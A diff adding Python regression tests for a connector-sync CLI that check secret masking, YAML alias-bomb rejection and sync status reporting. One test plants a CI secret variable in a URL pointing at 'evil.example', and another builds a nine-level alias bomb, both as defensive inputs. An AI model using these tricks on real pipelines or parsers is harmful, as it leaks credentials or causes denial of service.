@@ -1,0 +1,115 @@
+"""Seams between today's merges, found using the tool as a newcomer, an attacker and a CI engineer.
+
+Each test is one finding: it failed on main before its fix."""
+from __future__ import annotations
+
+import time
+
+from conftest import run_cli
+
+KEY = "qa-seams-key-5511"
+TOKEN = "qa-seams-token-8f3e"
+CI_SECRET = "ci-only-secret-77d1e"
+
+
+def write(tmp_path, text: str):
+    path = tmp_path / "connectors.yaml"
+    path.write_text(text)
+    return path
+
+
+AIRWEAVE_AT = """version: 1
+providers:
+  aw:
+    type: airweave
+    url: {url}
+    api_key: ${{KEY}}
+connectors:
+  docs-slack:
+    provider: aw
+    source: slack
+    target: docs-ab123
+    credentials:
+      type: oauth_token
+      access_token: ${{TOKEN}}
+"""
+
+
+def test_a_provider_url_cannot_print_a_ci_variable(tmp_path):
+    """A pull request sets ``url: https://${AWS_SECRET_ACCESS_KEY}.evil.example``: the allowed-host
+    refusal named the host, and so printed the CI's secret in the job log. Values read from the
+    environment into any non-secret field (not only connector fields) are shown masked."""
+    path = write(tmp_path, AIRWEAVE_AT.format(url="https://${AWS_SECRET_ACCESS_KEY}.evil.example/"))
+    env = {"KEY": KEY, "TOKEN": TOKEN, "AWS_SECRET_ACCESS_KEY": CI_SECRET}
+    for command in ("plan", "drift", "status"):
+        result = run_cli(command, str(path), env=env)
+        assert result.code == 1, result.output
+        assert "Traceback" not in result.output
+        assert "refusing to send credentials to '(from $AWS_SECRET_ACCESS_KEY).evil.example'" in result.stderr
+        assert CI_SECRET not in result.output
+
+
+def test_a_url_variable_the_ci_marks_public_is_still_shown(tmp_path):
+    path = write(tmp_path, AIRWEAVE_AT.format(url="https://${CORP_HOST}/"))
+    env = {"KEY": KEY, "TOKEN": TOKEN, "CORP_HOST": "airweave.corp.example", "RECONCILE_PUBLIC_VARS": "CORP_HOST"}
+    result = run_cli("plan", str(path), env=env)
+    assert result.code == 1 and "refusing to send credentials to 'airweave.corp.example'" in result.stderr
+
+
+def test_fmt_refuses_an_alias_bomb_at_once(tmp_path):
+    """Nine lines of nested aliases expand to 9**9 nodes: validate refused them, but ``fmt --check``
+    (the pre-commit hook) walked every expanded node and never finished."""
+    levels = ["a: &a [x, x, x, x, x, x, x, x, x]"]
+    for prev, name in zip("abcdefgh", "bcdefghi"):
+        levels.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
+    path = write(tmp_path, "\n".join(levels) + "\nversion: 1\n")
+    before = path.read_text()
+    started = time.monotonic()
+    result = run_cli("fmt", "--check", str(path), timeout=60)
+    assert time.monotonic() - started < 30
+    assert result.code == 1 and "Traceback" not in result.output
+    assert "YAML aliases expand to more than 100000 nodes" in result.stderr
+    assert path.read_text() == before
+
+
+def test_fmt_still_formats_a_manifest_with_a_few_aliases(tmp_path):
+    path = write(tmp_path, "version: 1\nx: &s [a, b]\ny: *s\n")
+    result = run_cli("fmt", "--check", str(path))
+    assert "aliases expand" not in result.output and "Traceback" not in result.output
+
+
+CAPI = """version: 1
+providers:
+  capi:
+    type: connectors-api
+    url: ${CAPI_URL}
+    api_key: ${KEY}
+connectors:
+  documents:
+    provider: capi
+    source: s3
+    target: col_abc123
+    scope:
+      bucket: my-documents
+      region: us-east-1
+    credentials:
+      accessKeyId: ${TOKEN}
+      secretAccessKey: ${TOKEN}
+"""
+
+
+def test_status_shows_the_connectors_api_last_sync(emulator, tmp_path):
+    """The Connectors API lists no jobs, but its connector carries ``lastSync``: after a completed
+    ``sync --wait``, ``status`` said ``never run``."""
+    emu = emulator("connectors-api", api_key=KEY, targets=["col_abc123"])
+    path = write(tmp_path, CAPI)
+    env = {"KEY": KEY, "TOKEN": TOKEN, "CAPI_URL": emu.url}
+    assert run_cli("apply", str(path), "--yes", env=env).code == 0
+    before = run_cli("status", str(path), env=env)
+    assert before.code == 0 and "never run" in before.stdout, before.output
+    synced = run_cli("sync", str(path), "--wait", "--timeout", "30s", env=env)
+    assert synced.code == 0, synced.output
+    after = run_cli("status", str(path), env=env)
+    assert after.code == 0, after.output
+    row = next(line for line in after.stdout.splitlines() if line.startswith("documents "))
+    assert "completed 20" in row and "never run" not in row, after.stdout
